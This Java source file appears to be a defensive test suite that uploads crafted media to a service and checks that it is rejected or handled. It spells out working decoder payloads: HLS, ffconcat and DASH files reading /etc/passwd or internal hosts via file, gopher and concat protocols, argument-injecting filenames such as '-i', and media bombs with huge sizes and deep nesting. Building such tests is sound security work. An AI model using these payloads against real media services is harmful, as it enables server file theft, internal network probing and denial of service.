package dev.tenure.app.whole;

import static dev.tenure.app.whole.Attack.Threat.DECODER_READS_ELSEWHERE;
import static dev.tenure.app.whole.Attack.Threat.MEDIA_BOMB;
import static dev.tenure.app.whole.Boxes.ascii;
import static dev.tenure.app.whole.Boxes.box;
import static dev.tenure.app.whole.Boxes.chunk;
import static dev.tenure.app.whole.Boxes.joined;

import dev.tenure.app.whole.Attack.Threat;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.HexFormat;
import java.util.List;
import java.util.function.Function;

/** Films that make a decoder read what is not theirs, or work without end. */
final class HostileMedia {

    private static final byte[] FTYP = box("ftyp", ascii("isom\0\0\2\0isomiso2avc1mp41"));

    private HostileMedia() {}

    static List<Attack> attacks() {
        List<Attack> attacks = new ArrayList<>();
        attacks.addAll(elsewhere());
        attacks.addAll(names());
        attacks.addAll(bombs());
        return attacks;
    }

    private static Attack held(Threat threat, String name, Function<Ground, byte[]> content, String reason) {
        return new Attack(
                threat,
                name,
                ground -> ground.isHeld(ground.handOver("recording", "talk.mp4", content.apply(ground)), reason));
    }

    private static String playlist(String... addresses) {
        return "#EXTM3U\n#EXT-X-TARGETDURATION:5\n#EXTINF:5,\n" + String.join("\n#EXTINF:5,\n", addresses)
                + "\n#EXT-X-ENDLIST\n";
    }

    private static List<Attack> elsewhere() {
        String none = "";
        return List.of(
                held(
                        DECODER_READS_ELSEWHERE,
                        "a playlist names a file of the server",
                        ground -> ascii(playlist("file:///etc/passwd")),
                        none),
                held(
                        DECODER_READS_ELSEWHERE,
                        "a playlist names addresses inside",
                        ground -> ascii(playlist(
                                "http://" + ground.canary().address() + "/a.ts",
                                "tcp://" + ground.canary().address(),
                                "gopher://" + ground.canary().address() + "/x")),
                        none),
                held(
                        DECODER_READS_ELSEWHERE,
                        "a playlist is put together out of protocols",
                        ground -> ascii(playlist(
                                "concat:http://" + ground.canary().address()
                                        + "/h|subfile,,start,0,end,64,,:/etc/passwd",
                                "crypto:/etc/passwd",
                                "data:text/plain;base64,AAAA")),
                        none),
                held(
                        DECODER_READS_ELSEWHERE,
                        "a script of files to join",
                        ground -> ascii("ffconcat version 1.0\nfile '/etc/passwd'\nfile 'http://"
                                + ground.canary().address() + "/a.mp4'\n"),
                        none),
                held(
                        DECODER_READS_ELSEWHERE,
                        "a session description names a stream",
                        ground -> ascii(String.join(
                                "\r\n",
                                "v=0",
                                "o=- 0 0 IN IP4 127.0.0.1",
                                "s=x",
                                "c=IN IP4 127.0.0.1",
                                "t=0 0",
                                "m=video 9 RTP/AVP 96",
                                "a=rtpmap:96 H264/90000",
                                "")),
                        none),
                held(
                        DECODER_READS_ELSEWHERE,
                        "a manifest of DASH names segments elsewhere",
                        ground -> ascii("<?xml version=\"1.0\"?><MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\"><Period>"
                                + "<BaseURL>http://" + ground.canary().address() + "/</BaseURL></Period></MPD>"),
                        none),
                new Attack(
                        DECODER_READS_ELSEWHERE,
                        "an AVI has a playlist for a subtitle",
                        ground -> ground.isNotPlayable(ground.handOver(
                                "recording",
                                "talk.avi",
                                subtitled(playlist(
                                        "http://" + ground.canary().address() + "/a.ts", "file:///etc/passwd"))))),
                new Attack(
                        DECODER_READS_ELSEWHERE,
                        "a QuickTime film has its samples in another file",
                        ground -> settles(
                                ground,
                                Boxes.bent(
                                        ground.world().clips().playable(),
                                        List.of("moov", "trak", "mdia", "minf", "dinf", "dref"),
                                        inside -> joined(
                                                new byte[] {0, 0, 0, 0, 0, 0, 0, 1},
                                                box(
                                                        "url ",
                                                        new byte[4],
                                                        ascii("http://"
                                                                + ground.canary()
                                                                        .address() + "/x.mp4\0")))))));
    }

    /** As it came, or given up with a reason: both end. */
    private static void settles(Ground ground, byte[] film) {
        String id = ground.handOver("recording", "talk.mp4", film);
        Until.holds(id + " comes to an end", java.time.Duration.ofMinutes(2), () -> {
            var now = ground.recordings().item(id);
            return now.get("state").asString().equals("READY") || now.hasNonNull("problem");
        });
    }

    /** Names that would be options or addresses, if one ever reached a command line. */
    private static List<Attack> names() {
        return List.of("-i", "concat:/etc/passwd|x", "%03d.mp4", "pipe:0").stream()
                .map(name -> new Attack(
                        DECODER_READS_ELSEWHERE,
                        "a film is called " + name,
                        ground -> ground.recordings()
                                .await(
                                        ground.handOver(
                                                "recording",
                                                name,
                                                ground.world().clips().playable()),
                                        "READY")))
                .toList();
    }

    private static List<Attack> bombs() {
        return List.of(
                held(
                        MEDIA_BOMB,
                        "a box claims 8 EiB",
                        ground -> joined(
                                FTYP,
                                new byte[] {0, 0, 0, 1},
                                ascii("mdat"),
                                ByteBuffer.allocate(8).putLong(Long.MAX_VALUE).array()),
                        "cut off"),
                held(
                        MEDIA_BOMB,
                        "an index claims 300 MB",
                        ground -> joined(
                                FTYP, ByteBuffer.allocate(4).putInt(300 << 20).array(), ascii("moov")),
                        "cut off"),
                held(MEDIA_BOMB, "boxes without a size", ground -> joined(FTYP, new byte[4096]), "index"),
                held(
                        MEDIA_BOMB,
                        "an index of 300 MB behind a hundred empty boxes",
                        ground -> joined(
                                FTYP,
                                joined(Collections.nCopies(100, box("free", new byte[0]))
                                        .toArray(byte[][]::new)),
                                ByteBuffer.allocate(4).putInt(300 << 20).array(),
                                ascii("moov")),
                        "its box moov at byte 832 needs"),
                held(
                        MEDIA_BOMB,
                        "a table claims two thousand million entries",
                        ground -> Boxes.overwritten(
                                ground.world().clips().playable(),
                                List.of("moov", "trak", "mdia", "minf", "stbl", "stts"),
                                4,
                                Integer.MAX_VALUE),
                        "its table stts claims"),
                held(
                        MEDIA_BOMB,
                        "a film of a million seconds",
                        ground -> Boxes.bent(ground.world().clips().playable(), List.of("moov", "mvhd"), inside -> {
                            ByteBuffer.wrap(inside).putInt(12, 1).putInt(16, 1_000_000);
                            return inside;
                        }),
                        "1000000 seconds"),
                held(
                        MEDIA_BOMB,
                        "a thousand tracks",
                        ground -> Boxes.bent(
                                ground.world().clips().playable(),
                                List.of("moov"),
                                inside -> joined(
                                        inside,
                                        joined(Collections.nCopies(1000, box("trak", new byte[16]))
                                                .toArray(byte[][]::new)))),
                        "more than 128 tracks"),
                held(
                        MEDIA_BOMB,
                        "an index that nests a hundred times",
                        ground -> joined(FTYP, box("moov", nested(100))),
                        "nests deeper"),
                held(
                        MEDIA_BOMB,
                        "elements of Matroska that nest without end",
                        ground -> joined(
                                HexFormat.of()
                                        .parseHex(
                                                "1a45dfa3a34286810142f7810142f2810442f381084282886d6174726f736b614287810442858102"
                                                        + "18538067" + "01ffffffffffffff"),
                                elements(60)),
                        "nests deeper"),
                new Attack(
                        MEDIA_BOMB,
                        "a picture of 16383 × 16383",
                        ground -> ground.isNotPlayable(ground.handOver(
                                "recording",
                                "talk.webm",
                                Boxes.patched(
                                        made(ground, "small.webm", "-c:v", "libvpx", "-an"),
                                        HexFormat.of().parseHex("9d012a"),
                                        3,
                                        HexFormat.of().parseHex("ff3fff3f"))))),
                new Attack(
                        MEDIA_BOMB,
                        "a thousand pictures a second",
                        ground -> settles(
                                ground,
                                made(
                                        ground,
                                        "fast.mp4",
                                        "-vf",
                                        "scale=64:36,fps=1000",
                                        "-c:v",
                                        "libx264",
                                        "-preset",
                                        "ultrafast",
                                        "-an"))),
                new Attack(
                        MEDIA_BOMB,
                        "files and a flood of subtitles in Matroska",
                        ground -> settles(ground, flooded(ground))),
                held(
                        MEDIA_BOMB,
                        "a film that ends in the middle",
                        ground -> java.util.Arrays.copyOf(
                                ground.world().clips().playable(),
                                ground.world().clips().playable().length / 2),
                        "cut off"),
                new Attack(
                        MEDIA_BOMB,
                        "samples that are noise",
                        ground -> settles(
                                ground,
                                Boxes.bent(ground.world().clips().playable(), List.of("mdat"), HostileMedia::noise))));
    }

    private static byte[] noise(byte[] samples) {
        new java.util.Random(7).nextBytes(samples);
        return samples;
    }

    private static byte[] nested(int depth) {
        byte[] inside = new byte[0];
        for (int i = 0; i < depth; i++) {
            inside = box("mdia", inside);
        }
        return inside;
    }

    /** Tracks of an entry that holds an entry, and so on, each as large as what is left. */
    private static byte[] elements(int depth) {
        byte[] inside = new byte[0];
        for (int i = 0; i < depth; i++) {
            byte[] size = ByteBuffer.allocate(8)
                    .putLong(0x0100000000000000L | inside.length)
                    .array();
            inside = joined(HexFormat.of().parseHex(i == depth - 1 ? "1654ae6b" : "ae"), size, inside);
        }
        return inside;
    }

    private static byte[] subtitled(String playlist) {
        byte[] header = joined(ascii("txts"), new byte[52]);
        byte[] stream = chunk("LIST", ascii("strl"), chunk("strh", header), chunk("strf", new byte[40]));
        byte[] subtitle = joined(
                ascii("GAB2\0"),
                HexFormat.of().parseHex("0200040000006100000000000400"),
                ByteBuffer.allocate(4)
                        .putInt(Integer.reverseBytes(playlist.length()))
                        .array(),
                ascii(playlist));
        return chunk(
                "RIFF",
                ascii("AVI "),
                chunk("LIST", ascii("hdrl"), chunk("avih", new byte[56]), stream),
                chunk("LIST", ascii("movi"), chunk("00tx", subtitle)));
    }

    private static byte[] made(Ground ground, String name, String... codec) {
        Path file = ground.world().directory("hostile").resolve(name);
        List<String> command = new ArrayList<>(List.of("-nostdin", "-v", "error", "-f", "lavfi", "-i"));
        command.add("testsrc2=size=160x90:rate=25:duration=1");
        command.addAll(List.of(codec));
        command.add(file.toString());
        ground.world().clips().ffmpeg(command.toArray(String[]::new));
        return read(file);
    }

    private static byte[] flooded(Ground ground) {
        Path place = ground.world().directory("hostile");
        StringBuilder cues = new StringBuilder();
        for (int i = 1; i <= 20_000; i++) {
            cues.append(i)
                    .append("\n00:00:00,000 --> 00:00:01,000\n<b>flood</b> ")
                    .append(i)
                    .append("\n\n");
        }
        try {
            Path film =
                    Files.write(place.resolve("a.mp4"), ground.world().clips().playable());
            Path subtitles = Files.writeString(place.resolve("a.srt"), cues);
            Path flooded = place.resolve("flooded.mkv");
            ground.world()
                    .clips()
                    .ffmpeg(
                            "-nostdin",
                            "-v",
                            "error",
                            "-i",
                            film.toString(),
                            "-i",
                            subtitles.toString(),
                            "-attach",
                            subtitles.toString(),
                            "-metadata:s:t",
                            "mimetype=application/x-truetype-font",
                            "-map",
                            "0",
                            "-map",
                            "1",
                            "-c",
                            "copy",
                            "-c:s",
                            "srt",
                            flooded.toString());
            return Files.readAllBytes(flooded);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] read(Path file) {
        try {
            return Files.readAllBytes(file);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
